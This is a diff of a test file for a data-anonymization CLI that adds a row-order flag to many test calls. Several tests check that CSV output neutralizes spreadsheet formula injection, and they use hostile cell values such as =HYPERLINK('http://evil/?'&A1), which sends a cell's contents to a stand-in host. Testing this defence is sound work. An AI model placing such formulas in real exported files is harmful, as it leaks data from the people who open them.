@@ -77,7 +77,7 @@ def classes_at_least(df: pd.DataFrame, cols, k) -> bool:
 
 
 def test_default_is_group_join_suppression_on_stdout(csv_with_header):
-    proc = run("-i", csv_with_header, "-f", "-k", 2, "--i_ids", 0, "--s_ids", 4, "-s", 1)
+    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-k", 2, "--i_ids", 0, "--s_ids", 4, "-s", 1)
     assert proc.returncode == 0, proc.stderr
     out = read_out(proc.stdout)
     assert list(out.columns) == ["age", "edu", "sex", "disease"]
@@ -113,7 +113,7 @@ def test_anonymizing_algorithms(csv_with_header, algorithm, extra):
 
 
 def test_types_letters_and_generalized_text(csv_with_header):
-    proc = run("-i", csv_with_header, "-f", "-a", "time_optimal", "-r", "g", "-k", 2,
+    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "time_optimal", "-r", "g", "-k", 2,
                "--i_ids", 0, "--s_ids", 4, "--types", "rou")
     out = read_out(proc.stdout)
     # (30, F) is nearest to (31, M)? no: age 1/27 + edu 1/6 + sex 1 > 12/27 + 2/6 + 0 (42, F)
@@ -122,7 +122,7 @@ def test_types_letters_and_generalized_text(csv_with_header):
 
 
 def test_without_header_and_left(csv_plain):
-    proc = run("-i", csv_plain, "-a", "time_optimal", "-k", 3, "--i_ids", 0, "--qi_ids", "1,2",
+    proc = run("--row-order", "input", "-i", csv_plain, "-a", "time_optimal", "-k", 3, "--i_ids", 0, "--qi_ids", "1,2",
                "--s_ids", "left")
     assert proc.returncode == 0, proc.stderr
     out = read_out(proc.stdout, header=False)
@@ -131,26 +131,26 @@ def test_without_header_and_left(csv_plain):
 
 
 def test_perturbations(csv_with_header):
-    hashed = read_out(run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0,
+    hashed = read_out(run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0,
                           "--s_ids", 4).stdout)
     assert hashed["name"].str.len().eq(64).all() and hashed["age"].tolist() == [
         str(a) for a in PEOPLE["age"]]
     # the shufflers keep identifier columns (the reference's contract): name is declared one
-    a = run("-i", csv_with_header, "-f", "-a", "shuffler", "--i_ids", 0, "--cols2shuffle", "1,4",
+    a = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "shuffler", "--i_ids", 0, "--cols2shuffle", "1,4",
             "-s", 7)
-    b = run("-i", csv_with_header, "-f", "-a", "shuffler", "--i_ids", 0, "--cols2shuffle", "1,4",
+    b = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "shuffler", "--i_ids", 0, "--cols2shuffle", "1,4",
             "-s", 7)
     assert a.stdout == b.stdout
     sh = read_out(a.stdout)
     assert sorted(sh["age"].astype(int)) == sorted(PEOPLE["age"])
     assert sh["name"].tolist() == PEOPLE["name"].tolist()
-    batch = read_out(run("-i", csv_with_header, "-f", "-a", "batch_shuffler", "--i_ids", 0,
+    batch = read_out(run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "batch_shuffler", "--i_ids", 0,
                          "--qi_ids", 3, "--s_ids", "1,2,4", "-s", 2).stdout)
     for sex, grp in PEOPLE.groupby("sex"):
         assert sorted(batch.loc[batch["sex"] == sex, "age"].astype(int)) == sorted(grp["age"])
-    rnd = run("-i", csv_with_header, "-f", "-a", "randomization", "--i_ids", 0, "--s_ids", 4,
+    rnd = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "randomization", "--i_ids", 0, "--s_ids", 4,
               "--types", "rou", "--scale", 0.1, "-s", 5)
-    again = run("-i", csv_with_header, "-f", "-a", "randomization", "--i_ids", 0, "--s_ids", 4,
+    again = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "randomization", "--i_ids", 0, "--s_ids", 4,
                 "--types", "rou", "--scale", 0.1, "-s", 5)
     assert rnd.returncode == 0 and rnd.stdout == again.stdout
     out = read_out(rnd.stdout)
@@ -163,7 +163,7 @@ KEY = b"0123456789abcdef0123456789abcdef"
 
 
 def test_unkeyed_hasher_warns_and_points_to_key_file(csv_with_header):
-    proc = run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--qi_ids", "1,2,3",
+    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--qi_ids", "1,2,3",
                "--s_ids", 4)
     assert proc.returncode == 0
     lines = proc.stderr.strip().splitlines()
@@ -179,7 +179,7 @@ def test_unkeyed_hasher_warns_and_points_to_key_file(csv_with_header):
 def test_key_file_gives_hmac_pseudonyms_without_warning(tmp_path, csv_with_header, content):
     key_file = tmp_path / "key"
     key_file.write_bytes(content)
-    proc = run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", "0,3", "--qi_ids", "1,2",
+    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", "0,3", "--qi_ids", "1,2",
                "--s_ids", 4,
                "--key-file", key_file)
     assert proc.returncode == 0 and proc.stderr == "", proc.stderr
@@ -197,10 +197,10 @@ def test_key_file_with_column_context(tmp_path, csv_with_header, csv_plain):
     both = pd.DataFrame({"home": ["+7900", "x"], "work": ["+7900", "y"]})
     path = tmp_path / "phones.csv"
     both.to_csv(path, index=False)
-    plain = read_out(run("-i", path, "-f", "-a", "hasher", "--i_ids", "0,1",
+    plain = read_out(run("--row-order", "input", "-i", path, "-f", "-a", "hasher", "--i_ids", "0,1",
                          "--key-file", key_file).stdout)
     assert plain["home"][0] == plain["work"][0]
-    proc = run("-i", path, "-f", "-a", "hasher", "--i_ids", "0,1", "--key-file", key_file,
+    proc = run("--row-order", "input", "-i", path, "-f", "-a", "hasher", "--i_ids", "0,1", "--key-file", key_file,
                "--hash-context", "column")
     assert proc.returncode == 0 and proc.stderr == ""
     sep = read_out(proc.stdout)
@@ -209,7 +209,7 @@ def test_key_file_with_column_context(tmp_path, csv_with_header, csv_plain):
     assert sep["work"][0] == hmac.new(KEY, b"\x00\x00\x00\x04work+7900",
                                       hashlib.sha256).hexdigest()
     # without a header the column's number is its context
-    numbered = read_out(run("-i", csv_plain, "-a", "hasher", "--i_ids", 0, "--key-file",
+    numbered = read_out(run("--row-order", "input", "-i", csv_plain, "-a", "hasher", "--i_ids", 0, "--key-file",
                             key_file, "--hash-context", "column").stdout, header=False)
     assert numbered[0][0] == hmac.new(KEY, b"\x00\x00\x00\x010ann", hashlib.sha256).hexdigest()
 
@@ -217,7 +217,7 @@ def test_key_file_with_column_context(tmp_path, csv_with_header, csv_plain):
 def test_short_key_file_warns_in_one_line(tmp_path, csv_with_header):
     key_file = tmp_path / "key"
     key_file.write_text("tiny\n")
-    proc = run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--qi_ids", "1,2,3,4",
+    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--qi_ids", "1,2,3,4",
                "--key-file", key_file)
     assert proc.returncode == 0
     lines = proc.stderr.strip().splitlines()
@@ -270,7 +270,7 @@ def csv_formulas(tmp_path):
 
 
 def test_csv_output_neutralizes_formulas_by_default(tmp_path, csv_formulas):
-    proc = run("-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID)
+    proc = run("--row-order", "input", "-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID)
     assert proc.returncode == 0, proc.stderr
     lines = proc.stdout.splitlines()
     assert lines[0] == "id,delta,note"
@@ -278,11 +278,11 @@ def test_csv_output_neutralizes_formulas_by_default(tmp_path, csv_formulas):
         ["-5", "\"'=HYPERLINK(\"\"http://evil\"\")\""], ["3", "'@SUM(A1)"], ["-1", "fine"]]
     # the same to a file
     out = tmp_path / "o.csv"
-    assert run("-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
+    assert run("--row-order", "input", "-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
                "-o", out).returncode == 0
     assert out.read_text() == proc.stdout
     # turned off
-    raw = run("-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
+    raw = run("--row-order", "input", "-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
               "--no-csv-escape")
     assert read_out(raw.stdout)["note"].tolist() == ["=HYPERLINK(\"http://evil\")", "@SUM(A1)",
                                                      "fine"]
@@ -290,7 +290,7 @@ def test_csv_output_neutralizes_formulas_by_default(tmp_path, csv_formulas):
 
 def test_parquet_output_is_not_escaped(tmp_path, csv_formulas):
     out = tmp_path / "o.parquet"
-    proc = run("-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
+    proc = run("--row-order", "input", "-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
                "-o", out)
     assert proc.returncode == 0, proc.stderr
     frame = pd.read_parquet(out)
@@ -311,14 +311,14 @@ def test_main_in_process_captures_the_hasher_warning(capsys, csv_with_header):
 
 def test_output_files_csv_and_parquet(tmp_path, csv_with_header):
     csv_out = tmp_path / "out.csv"
-    proc = run("-i", csv_with_header, "-f", "-a", "time_optimal", "-r", "g", "-k", 2,
+    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "time_optimal", "-r", "g", "-k", 2,
                "--i_ids", 0, "--s_ids", 4, "--types", "rou", "-o", csv_out)
     assert proc.returncode == 0 and proc.stdout == ""
     assert "-> " in proc.stderr and csv_out.exists()
     back = pdanon.read_csv(csv_out, schema={"age": "real", "edu": "ordered", "sex": "unordered"})
     assert str(back["age"].dtype) == "generalization[real]"
     pq_out = tmp_path / "out.parquet"
-    proc = run("-i", csv_with_header, "-f", "-a", "time_optimal", "-r", "g", "-k", 2,
+    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "time_optimal", "-r", "g", "-k", 2,
                "--i_ids", 0, "--s_ids", 4, "--types", "rou", "-o", pq_out)
     assert proc.returncode == 0, proc.stderr
     frame = pd.read_parquet(pq_out)
@@ -327,7 +327,7 @@ def test_output_files_csv_and_parquet(tmp_path, csv_with_header):
     # Parquet in, CSV out
     src = tmp_path / "in.parquet"
     PEOPLE.to_parquet(src)
-    proc = run("-i", src, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0, "--s_ids", 4)
+    proc = run("--row-order", "input", "-i", src, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0, "--s_ids", 4)
     assert proc.returncode == 0, proc.stderr
     assert list(read_out(proc.stdout).columns) == ["age", "edu", "sex", "disease"]
 
@@ -582,7 +582,7 @@ def test_messages_name_flags_not_parameters(csv_pairs):
 
 
 def test_columns_without_a_role_are_kept(csv_pairs):
-    proc = run("-i", csv_pairs, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0, "--qi_ids", 1,
+    proc = run("--row-order", "input", "-i", csv_pairs, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0, "--qi_ids", 1,
                "--s_ids", 3, "--types", "r", "--insensitive_ids", 2)
     assert proc.returncode == 0 and proc.stderr == ""
     out = read_out(proc.stdout)
@@ -617,7 +617,7 @@ MESSY = ("age,zip,sex,disease\n30,10001,F,flu\n31,,F,cold\n,10002,M,flu\n45,1000
 def test_blank_cells_are_data_and_integer_codes_keep_their_text(tmp_path):
     path = tmp_path / "messy.csv"
     path.write_text(MESSY)
-    proc = run("-i", path, "-f", "-a", "time_optimal", "-r", "g", "-k", 2, "--qi_ids", "0,1,2",
+    proc = run("--row-order", "input", "-i", path, "-f", "-a", "time_optimal", "-r", "g", "-k", 2, "--qi_ids", "0,1,2",
                "--types", "ruu")
     assert proc.returncode == 0, proc.stderr
     # rows 2 and 4 share {10001, 10002} and M; a class mixing a blank and a value publishes
@@ -797,7 +797,7 @@ def test_key_file_bound(tmp_path, csv_with_header):
     assert MAX_KEY_FILE_BYTES == MAX_KEY
     ok = tmp_path / "ok.key"
     ok.write_bytes(b"k" * (MAX_KEY - 1) + b"\n")  # the bound, newline (stripped) included
-    proc = run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--key-file", ok)
+    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--key-file", ok)
     assert proc.returncode == 0, proc.stderr
     assert read_out(proc.stdout)["name"][0] == hmac.new(b"k" * (MAX_KEY - 1), b"ann",
                                                         hashlib.sha256).hexdigest()
@@ -910,7 +910,7 @@ def test_a_100000_field_line_is_refused_in_well_under_a_second(tmp_path, capsys)
 def test_equal_field_counts_with_quotes_blank_lines_and_spaces_still_read(tmp_path):
     path = tmp_path / "ok.csv"
     path.write_text('a,b\n1, "x, y"\n\n  \n2,"multi\nline"\n')
-    proc = run("-i", path, "-f", "-a", "shuffler", *SHUFFLE_ID2)
+    proc = run("--row-order", "input", "-i", path, "-f", "-a", "shuffler", *SHUFFLE_ID2)
     assert proc.returncode == 0, proc.stderr
     assert proc.stdout == 'a,b\n1,"x, y"\n2,"multi\nline"\n'
 
@@ -953,7 +953,7 @@ def test_line_breaks_before_a_formula_are_quoted_and_guarded(tmp_path):
         w = _csv.writer(fh, quoting=_csv.QUOTE_ALL, lineterminator="\n")
         w.writerow(["id", "note"])
         w.writerows([[i, n] for i, n in enumerate(notes)])
-    proc = run("-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2)
+    proc = run("--row-order", "input", "-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2)
     assert proc.returncode == 0, proc.stderr
     from pdanon.csvsafe import neutralize_formulas
 
@@ -961,14 +961,14 @@ def test_line_breaks_before_a_formula_are_quoted_and_guarded(tmp_path):
     assert expected[0] == "x\r'=HYPERLINK(\"http://evil/?\"&A1)"
     assert expected[len(BREAKS)] == "'\r'=HYPERLINK(1)"
     out = tmp_path / "o.csv"
-    assert run("-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2,
+    assert run("--row-order", "input", "-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2,
                "-o", out).returncode == 0
     with open(out, encoding="utf-8", newline="") as fh:
         written = fh.read()
     _rows_never_start_a_formula(written, len(notes), expected)
     # without the formula guard the cells are still quoted: a CSV reader gets them back whole
     raw = tmp_path / "raw.csv"
-    assert run("-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2,
+    assert run("--row-order", "input", "-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2,
                "--no-csv-escape", "-o", raw).returncode == 0
     with open(raw, encoding="utf-8", newline="") as fh:
         import csv as _csv
@@ -1073,7 +1073,7 @@ def codes_csv(tmp_path):
 @pytest.mark.parametrize("out_name", ["out.csv", "out.parquet"])
 def test_codes_keep_leading_zeros_in_csv_and_parquet(codes_csv, tmp_path, out_name):
     out = tmp_path / out_name
-    proc = run("-i", codes_csv, "-f", "-a", "datafly", "-k", "3", "--i_ids", "0",
+    proc = run("--row-order", "input", "-i", codes_csv, "-f", "-a", "datafly", "-k", "3", "--i_ids", "0",
                "--qi_ids", "1,2", "--types", "ur", "--s_ids", "3", "--insensitive_ids", "4,5",
                "-o", out)
     assert proc.returncode == 0, proc.stderr
@@ -1122,7 +1122,7 @@ def test_identifiers_are_hashed_as_written(codes_csv, tmp_path):
     key = tmp_path / "key"
     key.write_bytes(b"k" * 32)
     out = tmp_path / "h.csv"
-    proc = run("-i", codes_csv, "-f", "-a", "hasher", "--i_ids", "0", "--insensitive_ids",
+    proc = run("--row-order", "input", "-i", codes_csv, "-f", "-a", "hasher", "--i_ids", "0", "--insensitive_ids",
                "1,2,3,4,5", "--key-file", key, "-o", out)
     assert proc.returncode == 0, proc.stderr
     first = pd.read_csv(out, dtype=str)["pid"][0]
